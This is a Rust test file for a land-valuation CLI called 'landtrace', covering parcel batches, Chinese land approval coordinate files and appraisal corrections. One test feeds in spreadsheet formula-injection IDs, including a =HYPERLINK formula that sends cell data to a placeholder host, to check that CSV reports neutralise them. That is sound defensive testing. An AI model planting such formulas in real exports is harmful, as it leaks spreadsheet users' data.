//! `landtrace check valuation`: a batch of parcels against the bundled grade
//! zones; bad parcels are reported in their rows and do not stop the batch.

use landtrace_blackbox_tests::landtrace;

const PARCELS: &str = r#"{"type":"FeatureCollection","features":[
 {"type":"Feature","id":"good","properties":{},"geometry":{"type":"Polygon","coordinates":[[[110.7745,35.1395],[110.7755,35.1395],[110.7755,35.1405],[110.7745,35.1405],[110.7745,35.1395]]]}},
 {"type":"Feature","id":"bowtie","properties":{},"geometry":{"type":"Polygon","coordinates":[[[110.7745,35.1395],[110.7755,35.1405],[110.7755,35.1395],[110.7745,35.1405],[110.7745,35.1395]]]}},
 {"type":"Feature","id":"far","properties":{},"geometry":{"type":"Polygon","coordinates":[[[120,30],[120.01,30],[120.01,30.01],[120,30]]]}},
 {"type":"Feature","id":"line","properties":{},"geometry":{"type":"LineString","coordinates":[[110.7,35.1],[110.8,35.2]]}}]}"#;

#[test]
fn a_batch_reports_every_parcel() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("parcels.geojson"), PARCELS).unwrap();
    let out = landtrace(
        dir.path(),
        &["check", "valuation", "parcels.geojson", "--use", "住宅", "--as-of", "2023-06-01", "--out", "report.csv"],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("valued 1 of 4 parcels; 3 could not be valued"), "{stderr}");
    let report = std::fs::read_to_string(dir.path().join("report.csv")).unwrap();
    let lines: Vec<&str> = report.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 5, "{report}");
    assert!(
        lines[1].starts_with("1,good,ok,,") && lines[1].contains("城区一级") && lines[1].contains("657元/m²"),
        "{}",
        lines[1]
    );
    assert!(
        lines[2].starts_with("2,bowtie,error,") && lines[2].contains("self-intersects at (110.775000, 35.140000)"),
        "{}",
        lines[2]
    );
    assert!(lines[3].starts_with("3,far,error,") && lines[3].contains("outside 临猗县"), "{}", lines[3]);
    assert!(lines[4].starts_with("4,line,error,") && lines[4].contains("LineString"), "{}", lines[4]);

    let geojson =
        landtrace(dir.path(), &["check", "valuation", "parcels.geojson", "--use", "住宅", "--out", "report.geojson"]);
    assert!(geojson.status.success());
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.path().join("report.geojson")).unwrap()).unwrap();
    assert_eq!(doc["features"].as_array().unwrap().len(), 4);
    assert_eq!(doc["features"][0]["properties"]["valuation"]["parts"][0]["price"]["yuan_per_m2"], 657);

    let bad_use = landtrace(dir.path(), &["check", "valuation", "parcels.geojson", "--use", "别墅"]);
    assert!(!bad_use.status.success());
    assert!(String::from_utf8_lossy(&bad_use.stderr).contains("not a benchmark land use"));
    let missing = landtrace(dir.path(), &["check", "valuation", "nope.geojson", "--use", "住宅"]);
    assert!(!missing.status.success());
}

#[test]
fn the_report_never_carries_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let square = r#"{"type":"Polygon","coordinates":[[[110.7745,35.1395],[110.7755,35.1395],[110.7755,35.1405],[110.7745,35.1405],[110.7745,35.1395]]]}"#;
    let ids = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+cmd", "-2", "@A1", "-0.5"];
    let features: Vec<String> = ids
        .iter()
        .map(|id| {
            format!(r#"{{"type":"Feature","id":{},"properties":{{}},"geometry":{square}}}"#, serde_json::json!(id))
        })
        .collect();
    let parcels = format!(r#"{{"type":"FeatureCollection","features":[{}]}}"#, features.join(","));
    std::fs::write(dir.path().join("parcels.geojson"), parcels).unwrap();
    let out = landtrace(dir.path(), &["check", "valuation", "parcels.geojson", "--use", "住宅"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let report = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = report.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 1 + ids.len(), "{report}");
    assert!(lines[1].starts_with(r#"1,"'=HYPERLINK(""http://x.example/?""&A1,""点击"")",ok,"#), "{}", lines[1]);
    assert!(lines[2].starts_with("2,'+1+cmd,ok,"), "{}", lines[2]);
    assert!(lines[3].starts_with("3,-2,ok,"), "a number stays a number: {}", lines[3]);
    assert!(lines[4].starts_with("4,'@A1,ok,"), "{}", lines[4]);
    assert!(lines[5].starts_with("5,-0.5,ok,"), "{}", lines[5]);
}

/// The coordinate text file of a land approval filing (建设用地报批 坐标文件) near
/// 110.77°E 35.14°N, in CGCS2000 3° zone 37 with the zone number in the eastings
/// (EPSG:4525): 一号地块 is two parts, a 100 m square with a 30 m square hole and
/// a 50 m square (1.16 公顷); 二号地块 a 60 m square (0.36 公顷); both in 城区一级.
fn coordinate_file() -> String {
    let ring = |number: u32, east: f64, north: f64, size: f64| -> Vec<String> {
        [(0.0, 0.0), (0.0, size), (size, size), (size, 0.0), (0.0, 0.0)]
            .iter()
            .enumerate()
            .map(|(i, (dn, de))| {
                format!("J{},{number},{:.3},{:.3}", i % 4 + 1, 3_890_150.0 + north + dn, 37_479_040.0 + east + de)
            })
            .collect()
    };
    let one = [ring(1, 0.0, 0.0, 100.0), ring(2, 35.0, 35.0, 30.0), ring(3, 160.0, 0.0, 50.0)].concat();
    let two = ring(1, 260.0, 0.0, 60.0);
    format!(
        "[属性描述]\n格式版本号=1.01\n数据产生单位=临猗县自然资源局\n数据产生日期=2024-5-1\n坐标系=2000国家大地坐标系\n\
         几度分带=3\n投影类型=高斯克吕格\n计量单位=米\n带号=37\n精度=0.01\n转换参数=,,,,,,\n[地块坐标]\n\
         15,1.1600,1,一号地块,面,,商服用地,05,@\n{}\n5,0.3600,2,二号地块,面,,住宅用地,07,@\n{}\n",
        one.join("\n"),
        two.join("\n")
    )
}

#[test]
fn a_land_approval_coordinate_file_is_valued_parcel_by_parcel() {
    let dir = tempfile::tempdir().unwrap();
    let text = coordinate_file();
    std::fs::write(dir.path().join("红线.txt"), encoding_rs::GBK.encode(&text).0).unwrap();
    let out = landtrace(
        dir.path(),
        &["check", "valuation", "红线.txt", "--use", "住宅", "--as-of", "2023-06-01", "--out", "report.csv"],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("a land approval coordinate file in EPSG:4525"), "{stderr}");
    assert!(stderr.contains("valued 2 of 2 parcels; 0 could not be valued"), "{stderr}");
    let report = std::fs::read_to_string(dir.path().join("report.csv")).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(report.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2, "{report}");
    for (row, (id, declared_m2)) in rows.iter().zip([("1 一号地块", 11_600.0), ("2 二号地块", 3_600.0)]) {
        assert_eq!((&row[1], &row[2]), (id, "ok"), "{row:?}");
        let area: f64 = row[4].parse().unwrap();
        assert!((area - declared_m2).abs() < 1.0, "the declared 公顷 agree with the area: {row:?}");
        assert!(row[6].starts_with("城区一级") && row[6].ends_with("657元/m²"), "{row:?}");
    }

    // The file names its CRS: --crs may repeat it, not contradict it.
    let same = landtrace(dir.path(), &["check", "valuation", "红线.txt", "--use", "住宅", "--crs", "EPSG:4525"]);
    assert!(same.status.success(), "{}", String::from_utf8_lossy(&same.stderr));
    let other = landtrace(dir.path(), &["check", "valuation", "红线.txt", "--use", "住宅", "--crs", "EPSG:4326"]);
    let stderr = String::from_utf8_lossy(&other.stderr);
    assert!(!other.status.success() && other.status.code() != Some(101), "{stderr}");
    assert!(
        stderr.contains("the file names its own coordinate system, EPSG:4525") && stderr.contains("contradicts"),
        "{stderr}"
    );
}

#[test]
fn a_bad_coordinate_file_is_refused_naming_its_lines() {
    let dir = tempfile::tempdir().unwrap();
    let text = coordinate_file();
    let with_line = |line: usize, new: &str| {
        let mut lines: Vec<&str> = text.lines().collect();
        lines[line - 1] = new;
        lines.join("\n")
    };
    let cases = [
        (
            "zone.txt",
            text.replace("带号=37", "带号=38"),
            "line 14: Y (easting) 37479040 carries zone number 37, but 带号=38 (line 9)",
        ),
        ("short.txt", with_line(15, "J2,1,3890150.000"), "line 15: point row needs 4 fields 点号,圈号,X,Y, found 3"),
        (
            "xian80.txt",
            with_line(5, "坐标系=1980西安坐标系"),
            "line 5: 坐标系=1980西安坐标系: 1980西安坐标系 (Xi'an 80) is not read",
        ),
    ];
    for (name, body, message) in cases {
        std::fs::write(dir.path().join(name), encoding_rs::GBK.encode(&body).0).unwrap();
        let out = landtrace(dir.path(), &["check", "valuation", name, "--use", "住宅"]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success() && out.status.code() != Some(101), "{name}: {stderr}");
        assert!(
            stderr.contains(&format!("reading parcels from {name}")) && stderr.contains(message),
            "{name}: {stderr}"
        );
        assert!(out.stdout.is_empty(), "{name}: no report for a refused file");
    }
}

#[test]
fn a_land_approval_coordinate_file_imports_as_a_layer_with_its_parts_and_hole() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("红线.txt"), encoding_rs::GBK.encode(&coordinate_file()).0).unwrap();
    std::fs::write(
        dir.path().join("fields.toml"),
        "name = \"name\"\nproject_type = { value = \"增减挂钩\" }\naccuracy = { value = \"illustrative\" }\n\
         source = \"parcel_no\"\n",
    )
    .unwrap();
    let out = landtrace(
        dir.path(),
        &["import", "consolidation_projects", "红线.txt", "--fields", "fields.toml", "--store", "s.gpkg"],
    );
    let said = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success(), "{said}");
    assert!(said.contains("read 2 parcels of a 建设用地报批 coordinate file (gbk"), "{said}");

    let out = landtrace(
        dir.path(),
        &["export", "consolidation_projects", "--format", "geojson", "--out", "out.geojson", "--store", "s.gpkg"],
    );
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.path().join("out.geojson")).unwrap()).unwrap();
    let ours: Vec<&serde_json::Value> =
        doc["features"].as_array().unwrap().iter().filter(|f| f["properties"]["project_type"] == "增减挂钩").collect();
    let find = |name: &str| *ours.iter().find(|f| f["properties"]["name"] == name).expect(name);
    let one = &find("一号地块")["geometry"]["coordinates"];
    // Two parts; the first has its hole.
    assert_eq!(one.as_array().unwrap().len(), 2, "{one}");
    assert_eq!(one[0].as_array().unwrap().len(), 2, "{one}");
    assert_eq!(find("二号地块")["properties"]["source"], "2");
    // The first corner of 一号地块 lands where the issue's reference point says.
    let corner = &one[0][0][0];
    assert!((corner[0].as_f64().unwrap() - 110.770).abs() < 0.001, "{corner}");
    assert!((corner[1].as_f64().unwrap() - 35.140).abs() < 0.001, "{corner}");

    // The file names its CRS: a contradicting one is refused, nothing stored.
    let out = landtrace(
        dir.path(),
        &[
            "import",
            "consolidation_projects",
            "红线.txt",
            "--fields",
            "fields.toml",
            "--crs",
            "EPSG:4546",
            "--store",
            "s.gpkg",
        ],
    );
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("contradicts it"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// `--corrections`/`--remaining-term`/`--plot-ratio`/`--factors`: the appraisal by the
/// benchmark-price coefficient method (GB/T 18508-2014). 临政发〔2023〕8号 (gazette lines
/// 1291-1328) gives no term, rate, date or tables: with `none` the report says the
/// benchmark price alone; with the bureau's file each factor is in the report; a bad
/// file or factor fails with exit code ≠ 0.
#[test]
fn an_appraisal_with_and_without_correction_tables() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("parcels.geojson"), PARCELS).unwrap();
    let run = |extra: &[&str]| {
        let mut args = vec!["check", "valuation", "parcels.geojson", "--use", "住宅", "--as-of", "2024-06-01"];
        args.extend_from_slice(extra);
        landtrace(dir.path(), &args)
    };
    let out = run(&["--corrections", "none", "--remaining-term", "50"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("基准地价本身"), "{stderr}");
    let report = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = report.trim_start_matches('\u{feff}').lines().collect();
    assert!(lines[0].ends_with("appraisal_method,appraised_value_yuan,appraisal_factors"), "{}", lines[0]);
    assert!(lines[1].contains("benchmark_only") && lines[1].contains("年期修正未修正"), "{}", lines[1]);

    let tables = r#"{"source": "县自然资源局（测试）", "accuracy": "official",
      "benchmark_terms": {"source": "成果报告", "uses": {"住宅": 70}},
      "restoration_rates": {"source": "成果报告", "uses": {"住宅": 0.06}},
      "individual_factors": {"source": "个别因素表", "uses": {"住宅": {"交通条件": {"优": 0.03}}}}}"#;
    std::fs::write(dir.path().join("tables.json"), tables).unwrap();
    let out = run(&["--corrections", "tables.json", "--remaining-term", "50", "--factors", "交通条件=优"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let report = String::from_utf8(out.stdout).unwrap();
    let good = report.lines().find(|l| l.contains(",good,")).unwrap();
    // K_年期 = 0.9620, ΣK = +0.03; no index, no plot ratio: not corrected.
    assert!(
        good.contains("coefficient_correction")
            && good.contains("年期修正=0.9620")
            && good.contains("个别因素修正=0.0300"),
        "{good}"
    );
    assert!(good.contains("期日修正未修正") && good.contains("县自然资源局（测试）"), "{good}");

    for (bad, expected) in [
        (vec!["--corrections", "nope.json"], "--corrections"),
        (vec!["--corrections", "tables.json", "--factors", "景观=优"], "景观"),
        (vec!["--remaining-term", "99"], "remaining_term_years"),
        (vec!["--factors", "交通条件"], "--factors"),
    ] {
        let out = run(&bad);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{bad:?}: {stderr}");
        assert!(stderr.contains(expected), "{bad:?}: {stderr}");
    }
}
